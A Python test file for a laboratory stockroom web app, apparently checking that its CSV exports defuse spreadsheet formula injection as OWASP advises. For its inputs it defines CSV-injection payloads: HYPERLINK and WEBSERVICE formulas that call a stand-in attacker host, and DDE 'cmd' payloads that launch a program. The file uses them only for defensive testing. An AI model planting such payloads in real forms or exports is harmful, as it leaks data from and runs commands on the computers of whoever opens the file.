"""Every CSV export opens in a spreadsheet as data only: typed text cannot come back as a live formula.

The rule is the OWASP "CSV Injection" advice: a cell starting with =, +, -, @, tab or carriage return
gets a leading apostrophe; numbers (a negative one too) stay numbers.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re

import pytest
from formposts import post
from test_runs import GOOD, run_form
from test_runs import setup as setup  # noqa: F401  (the fixture, reused)

from stockroom import csvsafe

TODAY = dt.date.today()

# Hostile text, one per field, each starting with a character the OWASP list names.
ANALYST = '=HYPERLINK("http://attacker.invalid/?"&A1,"open")'
EXCLUDE_REASON = "+cmd|' /C calc'!A0"
ACCEPT_REASON = "-2+3+cmd|' /C calc'!A0"
REJECT_REASON = "@SUM(1+1)*cmd|' /C calc'!A0"
WITHDRAW_REASON = '=WEBSERVICE("http://attacker.invalid")'
RECALL_REASON = "+1, =2, -3; @4"
GROUP = "=1+1"
NOTES = "-1+1"


@pytest.mark.parametrize(
    "value, expected",
    [
        # (value, the cell as written): the OWASP CSV Injection prefix list, and numbers left as numbers.
        ("=1+1", '"\'=1+1"'),
        ("+1+1", '"\'+1+1"'),
        ("-1+1", '"\'-1+1"'),
        ("@SUM(A1)", '"\'@SUM(A1)"'),
        ("\t=1", '"\'\t=1"'),
        ("\r=1", '"\'\r=1"'),
        ("plain text", '"plain text"'),
        ('say "hi", then', '"say ""hi"", then"'),
        (None, '""'),
        ("", '""'),
        (-0.5, "-0.5"),
        (3, "3"),
        ("-0.312", "-0.312"),
        ("0.100000", "0.100000"),
        ("1e-05", "1e-05"),
        ("-1e-05", "-1e-05"),
        (float("nan"), '"nan"'),
        (True, '"True"'),
    ],
)
def test_cells(value, expected):
    assert csvsafe.cell(value) == expected


def test_comment_line_is_one_quoted_cell():
    text = csvsafe.comment('by =cmd, "x"\n=2')
    assert text == '"# by =cmd, ""x"" =2"\n'
    assert list(csv.reader(io.StringIO(text))) == [['# by =cmd, "x" =2']]


def assert_no_live_formula(text: str) -> list[str]:
    """Every cell of the CSV text, after checking none would start a formula (numbers aside)."""
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    for c in cells:
        if c[:1] in csvsafe.FORMULA_STARTS:
            assert csvsafe.is_number(c), f"live formula cell: {c!r}"
            float(c)  # a spreadsheet reads it as a number, and so does Python
    return cells


def test_every_export_defuses_typed_text(app, setup, signed_in_client, form_token, make_user):  # noqa: F811
    staff = signed_in_client("staff")
    code = setup["batch"]["code"]
    new_run = f"/batches/{code}/runs/new"
    # A run with a wild third replicate, typed by a hostile analyst name; left out with a hostile reason.
    rows = [GOOD[0], GOOD[1], ("11.9012", "11.0759", "0.05", "40.95"), GOOD[3]]
    resp = post(staff, form_token, new_run, run_form(setup, rows, action="record", analyst=ANALYST))
    assert resp.status_code == 303, resp.get_data(as_text=True)[:1500]
    run_id = int(re.search(r"/runs/(\d+)", resp.headers["Location"]).group(1))
    assert post(staff, form_token, f"/runs/{run_id}/exclude", {"position": "3", "reason": EXCLUDE_REASON}).status_code == 303
    resp = post(staff, form_token, f"/runs/{run_id}/decide", {"decision": "accept", "reason": ACCEPT_REASON})
    assert resp.status_code == 303, resp.get_data(as_text=True)[:1500]
    resp = post(staff, form_token, new_run, run_form(setup, action="record", purpose="recheck", analyst=ANALYST))
    assert resp.status_code == 303, resp.get_data(as_text=True)[:1500]
    second = int(re.search(r"/runs/(\d+)", resp.headers["Location"]).group(1))
    assert post(staff, form_token, f"/runs/{second}/decide", {"decision": "reject", "reason": REJECT_REASON}).status_code == 303

    # A class-data correction with hostile group and notes, through the instructor's upload.
    instructor = signed_in_client("instructor")
    sheet = f"group,aliquot_ml,titrant_ml,ratio,notes\n{GROUP},25.00,24.90,1:1,{NOTES}\nbench 2,25.00,24.80,1:1,ok\n"
    resp = instructor.post(
        "/lab-day/correct",
        content_type="multipart/form-data",
        data={
            "lab_day": TODAY.isoformat(),
            "titrant": "NaOH",
            "batch": code,
            "bench_temperature_c": "",
            "sheet": (io.BytesIO(sheet.encode()), "class.csv"),
            "csrf_token": form_token(instructor, "/"),
        },
    )
    assert resp.status_code == 303, resp.get_data(as_text=True)[:1500]
    cid = int(re.search(r"/corrections/(\d+)", resp.headers["Location"]).group(1))

    # A recall of the lot with a hostile reason, then the batch withdrawn with one.
    admin = signed_in_client("admin")
    resp = post(
        admin,
        form_token,
        "/recalls/new",
        {"subject": f"lot:{setup['lot']['id']}", "suspect_from": TODAY.isoformat(), "reason": RECALL_REASON},
    )
    assert resp.status_code == 303, resp.get_data(as_text=True)[:1500]
    rid = int(resp.headers["Location"].rsplit("/", 1)[1])
    resp = post(admin, form_token, f"/batches/{code}/withdraw", {"withdrawn_on": TODAY.isoformat(), "reason": WITHDRAW_REASON})
    assert resp.status_code == 303, resp.get_data(as_text=True)[:1500]

    exports = {
        "run": (staff, f"/runs/{run_id}.csv", [ANALYST, EXCLUDE_REASON]),
        "history": (staff, f"/batches/{code}/history.csv", [ANALYST, ACCEPT_REASON, REJECT_REASON, WITHDRAW_REASON]),
        "recall": (staff, f"/recalls/{rid}.csv", [RECALL_REASON]),
        "class correction": (instructor, f"/lab-day/corrections/{cid}.csv", [GROUP, NOTES]),
    }
    for name, (who, url, hostile) in exports.items():
        resp = who.get(url)
        assert resp.status_code == 200 and resp.mimetype == "text/csv", name
        text = resp.get_data(as_text=True)
        cells = assert_no_live_formula(text)
        for h in hostile:
            # The text is there, as text: defused where it is a cell, inside the comment where it is one.
            assert "'" + h in cells or any(h in c and c.startswith("# ") for c in cells), (name, h, cells)
    # Numbers stay numbers: the run's burette readings and molarities are bare in the file.
    run_text = staff.get(f"/runs/{run_id}.csv").get_data(as_text=True)
    assert ",40.21," in run_text and re.search(r",0\.0999\d+\n", run_text)
    history = list(csv.DictReader(line for line in staff.get(f"/batches/{code}/history.csv").get_data(as_text=True).splitlines()))
    assert [r["decision_reason"] for r in history] == ["'" + ACCEPT_REASON, "'" + REJECT_REASON, "'" + WITHDRAW_REASON]
    assert float(history[0]["molarity_mol_l"]) == pytest.approx(0.1, rel=0.05)


def test_the_curve_export_opens_as_data_with_negative_readings_as_numbers(app, setup, signed_in_client, form_token):  # noqa: F811
    from stockroom import curve_synth

    staff = signed_in_client("staff")
    gross, tare, _, _ = GOOD[0]
    pts = curve_synth.khp_curve(float(gross) - float(tare), 0.1, seed=7)
    # The pH curve as a glass electrode's potential, E = -59.16 mV (pH - 7) (the Nernst slope at 25 °C,
    # from memory): the readings run from about +230 to -300 mV, so many cells start with "-".
    curve = "\n".join(f"{v:g}, {-59.16 * (e - 7):.1f}" for v, e in pts)
    form = run_form(setup, rows=[], action="record", curve_reading="mv")
    form.update(r1_gross_g=gross, r1_tare_g=tare, r1_curve=curve)
    resp = post(staff, form_token, f"/batches/{setup['batch']['code']}/runs/new", form)
    assert resp.status_code == 303, resp.get_data(as_text=True)[:1500]
    run_id = int(re.search(r"/runs/(\d+)", resp.headers["Location"]).group(1))
    resp = staff.get(f"/runs/{run_id}/curves.csv")
    assert resp.status_code == 200 and resp.mimetype == "text/csv"
    text = resp.get_data(as_text=True)
    cells = assert_no_live_formula(text)
    negative = [c for c in cells if c.startswith("-")]
    assert len(negative) > 10 and all(csvsafe.is_number(c) for c in negative)
    assert f"\n1,{float(f'{pts[-1][0]:g}')!r},{float(f'{-59.16 * (pts[-1][1] - 7):.1f}')!r}\n" in text
